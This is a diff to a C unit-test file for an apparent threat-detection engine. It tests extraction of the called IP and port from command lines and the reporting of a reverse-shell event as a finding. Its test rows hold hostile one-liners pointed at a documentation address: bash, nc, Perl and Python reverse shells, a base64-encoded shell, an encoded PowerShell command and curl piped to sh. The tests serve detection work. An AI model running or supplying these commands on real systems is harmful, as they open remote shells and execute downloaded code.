@@ -11,6 +11,7 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "remote.h"
 #include "testhost.h"
 
 extern const struct mmr_plugin mmr_plugin_sigma;
@@ -73,6 +74,56 @@ static void a_match_becomes_a_finding_with_the_events_fields(void **state)
     assert_int_equal(mmr_testhost_refusals(th, &why), 0);
     start_event(th, i, T0, 43, "vssadmin.exe list shadows");
     assert_int_equal(mmr_testhost_count(th, "finding"), 1);
+    mmr_testhost_free(th);
+}
+
+static void the_address_a_command_calls_is_read_out_of_its_text(void **state)
+{
+    static const struct {
+        const char *text, *ip;
+        bool any;
+        uint16_t port;
+    } rows[] = {
+        {"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "198.51.100.7", true, 4444},
+        {"use Socket;$i=\"198.51.100.7\";$p=1234;socket(S,PF_INET", "198.51.100.7", true, 1234},
+        {"nc 198.51.100.7 9001 -e /bin/sh", "198.51.100.7", true, 9001},
+        {"s.connect((\"198.51.100.7\",8443));os.dup2(s.fileno(),0)", "198.51.100.7", true, 8443},
+        {"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQzIDA+JjE=}|{base64,-d}|bash", "198.51.100.7", true, 443},
+        {"powershell -enc aAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwAvAGEA", "198.51.100.7", false, 0},
+        {"curl http://198.51.100.7/x.sh | sh", "198.51.100.7", false, 0},
+        {"ping 198.51.100.7", "", false, 0},                 /* not fetched from */
+        {"app-1.2.3.4 --version 10.0.19041.1", "", true, 0}, /* versions */
+        {"bash -i >& /dev/tcp/127.0.0.1/4444", "", true, 0},
+        {"nc 198.51.100.7", "198.51.100.7", true, 0},
+        {"", "", true, 0},
+        {"999.1.1.1 1.2.3 1.2.3.4.5", "", true, 0},
+    };
+    (void)state;
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
+        struct remote r;
+        bool is_found = remote_find(rows[i].text, strlen(rows[i].text), rows[i].any, &r);
+        if (is_found != (rows[i].ip[0] != 0) || strcmp(r.ip, rows[i].ip) != 0 || r.port != rows[i].port)
+            fail_msg("'%s': found '%s' port %u, expected '%s' port %u", rows[i].text, r.ip, r.port, rows[i].ip, rows[i].port);
+    }
+}
+
+static void a_reverse_shell_names_who_it_calls(void **state)
+{
+    (void)state;
+    struct mmr_testhost *th = mmr_testhost_new();
+    int i = add(th, NULL);
+    static uint8_t buf[MMR_EVENT_BYTES_MAX];
+    struct mmr_event ev;
+    struct mmr_error err = {.struct_size = sizeof err};
+    mmr_event_begin(&ev, buf, sizeof buf, "process.start", MMR_CLASS_PROCESS, 1, T0, 1);
+    mmr_event_str(&ev, "process.file.path", "/bin/bash");
+    mmr_event_str(&ev, "process.cmd_line", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
+    assert_int_equal(mmr_event_end(&ev), 0);
+    assert_int_equal(mmr_testhost_event(th, i, ev.buf, ev.len, &err), 0);
+    int f = mmr_testhost_find(th, "finding", 0);
+    assert_true(f >= 0);
+    assert_string_equal(mmr_testhost_text(th, f, "dst_endpoint.ip"), "198.51.100.7");
+    assert_int_equal(mmr_testhost_int(th, f, "dst_endpoint.port", 0), 4444);
     mmr_testhost_free(th);
 }
 
@@ -194,6 +245,8 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_match_becomes_a_finding_with_the_events_fields),
+        cmocka_unit_test(the_address_a_command_calls_is_read_out_of_its_text),
+        cmocka_unit_test(a_reverse_shell_names_who_it_calls),
         cmocka_unit_test(repetitions_of_one_process_are_folded_and_counted),
         cmocka_unit_test(lists_and_level_decide_what_reports),
         cmocka_unit_test(an_exclusion_holds_until_it_expires),
